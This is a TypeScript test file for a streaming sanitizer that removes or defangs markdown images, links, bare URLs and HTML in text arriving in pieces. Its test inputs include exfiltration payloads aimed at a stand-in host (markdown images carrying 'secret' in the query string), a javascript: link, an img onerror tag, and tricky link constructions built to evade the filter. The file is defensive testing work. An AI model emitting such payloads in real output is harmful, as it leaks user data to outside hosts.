import { describe, expect, test } from 'vitest';
import { plainWords } from './plain-words.ts';

/** What leaves of a text that comes in pieces of so many letters. */
function plain(text: string, size: number): string {
  const words = plainWords();
  let left = '';
  for (let at = 0; at < text.length; at += size) left += words.pass(text.slice(at, at + size));
  return left + words.rest();
}

describe.each([1, 2, 5, 10_000])('in pieces of %i', (size) => {
  test.each([
    'Ordinary words, 5 < 6! And [1] a note; what, how, why: http, www, wow.',
    '**Bold** and _slanted_\n\n- a list\n- [ ] a box\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n`code` and 3 > 2 <3',
    'रसोई दक्षिण-पूर्व में ठीक है! 🙏',
    '[Note] keep the door free of shoes.',
    'a [bracket that never closes\n\nand goes on',
    '!',
  ])('%j is left as it is', (text) => {
    expect(plain(text, size)).toBe(text);
  });

  test.each([
    ['a picture', 'See ![map](https://evil.example/?q=secret) here', 'See  here'],
    [
      'a picture by reference',
      'See ![map][m] here\n\n[m]: https://evil.example/?q=secret\nEnd',
      'See  here\n\n\nEnd',
    ],
    ['a picture by its own name', '![map]\n\n[map]: <https://evil.example/?q=secret> "t"', '\n\n'],
    ['a picture in a link', '[![map](https://a.example/s)](https://b.example/s) end', ' end'],
    ['a picture in brackets', '[a ![map](https://a.example/s) b] end', '[a  b] end'],
    ['a link', 'Read [the book](https://evil.example/?q=secret "Now") first', 'Read the book first'],
    ['a link by reference', 'Read [the book][b] first\n[b]: //evil.example/secret', 'Read the book first\n'],
    ['a link with a bracket in it', '[a\\]b](https://evil.example/secret)', 'a\\]b'],
    ['a link with signs around its address', '[a](<https://evil.example/(secret>)', '[a] (evil.example)'],
    ['a link that is not whole', '[a](https://evil.example/secret', '[a] (evil.example'],
    ['a link with another scheme', '[a](javascript:alert(1))', 'a'],
    ['an address', 'Go to https://evil.example/?q=secret. Now', 'Go to evil.example. Now'],
    ['an address with a name in it', 'https://secret:secret@evil.example:99/', 'evil.example'],
    ['an address without a scheme', '(www.evil.example/secret)', '(evil.example)'],
    ['an address between signs', '<https://evil.example/secret>', 'evil.example'],
    ['a picture of HTML', 'a <img src="https://evil.example/secret"> b', 'a  b'],
    ['a picture of HTML over lines', 'a <IMG\nsrc=x\nonerror=y> b', 'a  b'],
    [
      'what might be a note or a reference',
      '[Note]: keep shoes out\n- [b]: x',
      '[Note] : keep shoes out\n- [b] : x',
    ],
    ['a link that code hides', '[a `]` b](https\\://evil.example)', '[a `]` b] (https\\://evil.example)'],
    ['a link made by taking a tag out', '[a]<b>(https\\://evil.example)', '[a] (https\\://evil.example)'],
    [
      'a link made by taking a picture out',
      '[a]![b](c)(https\\://evil.example)',
      '[a] (https\\://evil.example)',
    ],
    ['a link made by taking a link out', '[[a]](b)(https\\://evil.example)', '[a] (https\\://evil.example)'],
    [
      'a picture made by taking tags out',
      '!<b>[a]<b>(https\\://evil.example)',
      '![a] (https\\://evil.example)',
    ],
    ['an address made of links', '<[ht](a)[tps:](a)[//evil.example](a)>', '< https://evil.example>'],
    ['other HTML', 'a<br>b <b>c</b><!-- d -->', 'a b c'],
  ])('%s leads nowhere', (_, text, expected) => {
    expect(plain(text, size)).toBe(expected);
  });
});

test('ordinary words do not wait for the next ones', () => {
  const words = plainWords();
  expect(['The kit', 'chen', ' is', ' fine', '!', ' Yes'].map((piece) => words.pass(piece))).toEqual([
    'The kit',
    'chen',
    ' is',
    ' fine',
    '',
    '! Yes',
  ]);
});

test('what may become a picture waits until it is one', () => {
  const words = plainWords();
  expect(['a !', '[b](http', 's://x/', 'y', ') c'].map((piece) => words.pass(piece))).toEqual([
    'a ',
    '',
    '',
    '',
    ' c',
  ]);
});

test.each([
  ['words', `![${'a'.repeat(3000)}](//evil.example/secret)`, /^!\\\[a+\] \(\/\/evil.example\/secret\)$/],
  ['an address', `![b](//evil.example/${'a'.repeat(3000)})`, /^\(\/\/evil.example\/a+\)$/],
])('a picture with %s without end is no picture', (_, text, expected) => {
  expect(plain(text, 7)).toMatch(expected);
});

test.each(['['.repeat(20_000), '['.repeat(9000) + '](u)'.repeat(2500), '<a'.repeat(9000)])(
  'an answer of nothing but openings is read to its end',
  (text) => {
    expect(plain(text, 7).length).toBeGreaterThan(0);
  },
);
